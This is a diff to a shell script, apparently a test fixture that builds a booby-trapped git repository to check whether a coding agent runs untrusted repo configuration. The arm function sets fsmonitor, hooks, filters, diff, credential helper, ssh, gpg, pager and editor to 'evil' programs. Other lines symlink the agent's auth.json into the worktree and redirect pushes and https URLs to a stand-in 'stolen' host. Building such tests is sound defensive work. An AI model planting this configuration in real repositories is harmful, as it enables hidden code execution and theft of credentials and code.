@@ -44,27 +44,32 @@ for hook in $hooks reference-transaction pre-push; do
   program "hook-$hook" 'exit 0'
   cp "$evil/hook-$hook" "$evil/hooks/$hook"; mkdir -p .git/hooks; cp "$evil/hook-$hook" ".git/hooks/$hook"
 done
-arm() { # repository: make its git run the programs
+arm() { # repository: make its git run programs that lie inside its own .git
+  own="$1/.git/evil"; [ "$own" = "$evil" ] || cp -R "$evil" "$1/.git/"
   g() { git --git-dir="$1/.git" config "$2" "$3"; }
-  g "$1" core.fsmonitor "$evil/fsmonitor"
-  g "$1" core.hooksPath "$evil/hooks"
-  g "$1" filter.evil.clean "$evil/clean"
-  g "$1" filter.evil.smudge "$evil/smudge"
+  g "$1" core.fsmonitor "$own/fsmonitor"
+  g "$1" core.hooksPath "$own/hooks"
+  g "$1" filter.evil.clean "$own/clean"
+  g "$1" filter.evil.smudge "$own/smudge"
   g "$1" filter.evil.required true
-  g "$1" diff.evil.textconv "$evil/textconv"
-  g "$1" diff.external "$evil/external-diff"
-  g "$1" credential.helper "$evil/credential"
-  g "$1" core.sshCommand "$evil/ssh"
-  g "$1" gpg.program "$evil/gpg"
+  g "$1" diff.evil.textconv "$own/textconv"
+  g "$1" diff.external "$own/external-diff"
+  g "$1" credential.helper "$own/credential"
+  g "$1" core.sshCommand "$own/ssh"
+  g "$1" gpg.program "$own/gpg"
   g "$1" commit.gpgSign true
-  g "$1" core.pager "$evil/pager"
-  g "$1" core.editor "$evil/editor"
+  g "$1" core.pager "$own/pager"
+  g "$1" core.editor "$own/editor"
 }
 nest() { # folder: a repository of its own inside the worktree
-  [ -d "$1/.git" ] || git init -q "$1"
+  [ -d "$1/.git" ] && return
+  git init -q "$1"
   echo "text of a nested repository" > "$1/nested.txt"
   echo '* filter=evil diff=evil' > "$1/.gitattributes"
-  arm "$1"
+  # Without a commit of its own, git would refuse to look into it.
+  git -C "$1" add -A
+  git -C "$1" -c user.name=nested -c user.email=nested@rehearsal.example commit -qm nested
+  arm "$top/$1"
 }
 nest nested-repository
 git ls-files -s | sed -n 's/^160000 [0-9a-f]* 0\t//p' | while IFS= read -r path; do mkdir -p "$path"; nest "$path"; done
@@ -75,7 +80,7 @@ ln -sfn ../../../.. @FOLDER@/outside-folder
 ln -sfn "${CODEX_HOME:-$HOME/.codex}/auth.json" @FOLDER@/outside-login
 git remote set-url origin @STOLEN@ 2>/dev/null || git remote add origin @STOLEN@
 git config remote.origin.pushurl @STOLEN@
-git config url.@STOLEN@.insteadOf https://
+git config url.https://stolen.invalid/.insteadOf https://
 arm "$top"
 echo planted
 """
